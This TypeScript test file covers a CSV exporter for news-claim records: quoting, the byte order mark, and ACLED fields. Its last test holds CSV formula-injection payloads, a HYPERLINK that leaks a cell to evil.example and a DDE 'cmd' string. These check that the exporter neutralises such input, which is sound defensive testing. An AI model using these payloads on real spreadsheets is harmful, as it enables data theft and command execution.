// The claims CSV read back with csv-parse (a strict RFC 4180 parser: an unbalanced quote or a ragged row
// throws), so quoting, line ends and the BOM are checked by a reader other than our own.
import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import { STATUSES } from "../../claims/index.js";
import { CLAIM_EXPORT_COLUMNS, claimExportRow } from "./claim-export-row.js";
import { BOM, claimRecordsToCsv } from "./claims-export-csv.js";
import { sampleRecords } from "./export-fixtures.js";

const read = (csv: string, options: Record<string, unknown> = {}): Record<string, string>[] =>
  parse(csv, { columns: true, bom: true, record_delimiter: "\r\n", relax_quotes: false, relax_column_count: false, ...options });

const asCsvText = (v: unknown) => (v === null || v === undefined ? "" : String(v));

test("every claim is one record holding exactly its row's values, whatever they contain", () => {
  const records = sampleRecords();
  // Line breaks, quotes, commas and a leading space inside fields must survive the round trip.
  records[0] = { ...records[0], claim: { ...records[0].claim, evidence: { ...records[0].claim.evidence, text: ' He said: "taken,\r\nall of it"\nand left.' } } };
  const parsed = read(claimRecordsToCsv(records));
  assert.equal(parsed.length, records.length);
  assert.deepEqual(Object.keys(parsed[0]), [...CLAIM_EXPORT_COLUMNS]);
  records.forEach((r, i) => {
    const row = claimExportRow(r);
    for (const col of CLAIM_EXPORT_COLUMNS) assert.equal(parsed[i][col], asCsvText(row[col]), `${r.claim.id} ${col}`);
  });
  assert.equal(parsed[0].notes, ' He said: "taken,\r\nall of it"\nand left.');
});

test("carries the proposition, its status, the article and ACLED's precision codes", () => {
  const parsed = read(claimRecordsToCsv(sampleRecords()));
  const k1 = parsed.find((r) => r.claim_id === "k1")!;
  assert.match(k1.proposition_id, /\S/);
  assert.ok((STATUSES as string[]).includes(k1.proposition_status));
  assert.equal(k1.proposition_title, "Russian control of Alderton");
  assert.equal(k1.outlet, "Northern Courier");
  assert.equal(k1.url, "https://courier.example/news?id=1,2");
  assert.equal(k1.title, 'Orlov: "Alderton is ours"');
  assert.equal(k1.published, "2031-04-02");
  assert.equal(k1.time_precision, "1");
  assert.equal([k1.latitude, k1.longitude, k1.admin1].join(" "), "50 30 Eastern Oblast");
  const k2 = parsed.find((r) => r.claim_id === "k2")!;
  assert.equal(k2.title, "Бригада: бои продолжаются");
  assert.deepEqual([k2.event_date, k2.date_from], ["2031-04-03", "publication"]);
});

test("--bom puts one UTF-8 byte order mark first, and only when asked", () => {
  const plain = claimRecordsToCsv(sampleRecords());
  const marked = claimRecordsToCsv(sampleRecords(), { bom: true });
  assert.ok(!plain.startsWith(BOM));
  assert.equal(marked, BOM + plain);
  assert.deepEqual(Buffer.from(marked, "utf8").subarray(0, 3), Buffer.from([0xef, 0xbb, 0xbf]));
  // A reader that does not strip it sees it in the first header: the mark is really there.
  assert.equal(Object.keys(read(marked, { bom: false })[0])[0], `${BOM}claim_id`);
  assert.deepEqual(read(marked), read(plain));
});

test("the parser is strict: a stray quote is refused", () => {
  assert.throws(() => read('claim_id,notes\r\nk1,"unbalanced\r\n'));
});

test("neutralises formulas in every text cell: an outlet, a title or evidence starting with = + - @", () => {
  const records = sampleRecords();
  const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
  records[0] = { ...records[0], document: { ...records[0].document!, outlet: evil, title: "@SUM(1+1)" }, claim: { ...records[0].claim, evidence: { ...records[0].claim.evidence, text: "+cmd|' /C calc'!A0" } } };
  const parsed = read(claimRecordsToCsv(records));
  const row = parsed.find((r) => r.claim_id === records[0].claim.id)!;
  assert.equal(row.outlet, `'${evil}`);
  assert.equal(row.title, "'@SUM(1+1)");
  assert.equal(row.notes, "'+cmd|' /C calc'!A0");
  for (const r of parsed) for (const [col, v] of Object.entries(r)) assert.doesNotMatch(v, /^[=+@\t\r]/, `${r.claim_id} ${col}`);
});
